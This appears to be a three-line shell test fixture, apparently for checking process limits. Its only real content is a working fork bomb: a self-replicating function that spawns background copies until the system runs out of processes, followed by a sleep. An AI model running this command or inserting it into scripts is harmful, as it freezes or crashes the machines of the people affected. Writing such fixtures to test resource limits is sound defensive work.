# Wants: all processes
bomb() { bomb | bomb & }; bomb
sleep 60
